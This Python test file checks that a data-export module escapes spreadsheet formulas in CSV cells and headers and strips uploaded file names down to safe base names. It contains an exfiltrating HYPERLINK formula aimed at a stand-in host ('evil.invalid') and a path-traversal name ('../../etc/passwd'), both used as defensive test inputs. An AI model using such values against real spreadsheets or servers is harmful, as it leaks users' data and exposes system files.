"""Exports never carry a formula into a spreadsheet, and file names never become paths."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import polars as pl
import pytest

from shared_outcomes.checking.validation import validate_extract
from shared_outcomes.config.contracts import load_contract
from shared_outcomes.present import views
from shared_outcomes.present.exports import escape_cell, safe_file_name, to_safe_csv
from shared_outcomes.present.report_text import failing_rows_csv

CLAIMANT_CONTRACT = (
    Path(__file__).resolve().parents[2] / "data_contracts" / "claimant_count.odcs.yaml"
)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Bolton", "Bolton"),
        ("", ""),
    ],
)
def test_formula_cells_are_escaped(cell: str, expected: str) -> None:
    assert escape_cell(cell) == expected


def test_csv_escapes_text_but_leaves_negative_numbers_as_numbers() -> None:
    frame = pl.DataFrame({"area": ["=1+1", "Bury"], "change": [-3, 2]})
    text = to_safe_csv(frame).decode("utf-8-sig")
    assert text.splitlines() == ["area,change", "'=1+1,-3", "Bury,2"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\homeless ness_2016-03.csv", "homeless_ness_2016-03.csv"),
        ("café£ report.csv", "cafe_report.csv"),
        ("..", "extract.csv"),
    ],
)
def test_uploaded_file_names_never_reach_a_path(name: str, expected: str) -> None:
    assert safe_file_name(name) == expected


FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?leak="&A2,"open")'


def _rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def test_csv_escapes_column_names_like_cells() -> None:
    frame = pl.DataFrame({FORMULA_NAME: ["=1+1"], "+x": ["ok"], "-y": [-1], "area": ["Bury"]})
    header, row = _rows(to_safe_csv(frame))
    assert header == ["'" + FORMULA_NAME, "'+x", "'-y", "area"]
    assert row == ["'=1+1", "ok", "-1", "Bury"]


def test_names_that_escape_to_the_same_text_are_still_written() -> None:
    """'=a' escaped is "'=a": a frame holding both names still makes a CSV, header and all."""
    frame = pl.DataFrame({"=a": ["1"], "'=a": ["2"]})
    assert _rows(to_safe_csv(frame)) == [["'=a", "'=a"], ["1", "2"]]


def test_the_failing_rows_csv_escapes_a_header_cell_that_is_a_formula() -> None:
    contract = load_contract(CLAIMANT_CONTRACT)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([*contract.column_names, FORMULA_NAME])
    writer.writerow(["not a date"] + [""] * (len(contract.column_names) - 1) + ["=2+2"])
    text = buffer.getvalue()
    validation = validate_extract(text.encode(), contract)
    assert validation.report.errors
    header, *rows = _rows(
        failing_rows_csv(validation.report, validation.extract, validation.problems)
    )
    assert "'" + FORMULA_NAME in header
    assert FORMULA_NAME not in header
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in header + rows[0])


def test_the_blank_template_escapes_a_column_name_that_is_a_formula() -> None:
    contract = load_contract(CLAIMANT_CONTRACT)
    column = dataclasses.replace(contract.columns[0], name=FORMULA_NAME)
    hostile = dataclasses.replace(contract, columns=(column,))
    assert _rows(views.template_csv(hostile)) == [["'" + FORMULA_NAME]]


def test_the_failing_rows_csv_keeps_header_cells_named_like_its_own_columns() -> None:
    contract = load_contract(CLAIMANT_CONTRACT)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([*contract.column_names, "spreadsheet_row", "problems"])
    writer.writerow(["not a date"] + [""] * (len(contract.column_names) - 1) + ["7", "8"])
    validation = validate_extract(buffer.getvalue().encode(), contract)
    header, row = _rows(
        failing_rows_csv(validation.report, validation.extract, validation.problems)
    )
    assert header == ["spreadsheet_row", "problems", *contract.column_names, *header[:2]]
    assert row[0] == "2" and row[-2:] == ["7", "8"]
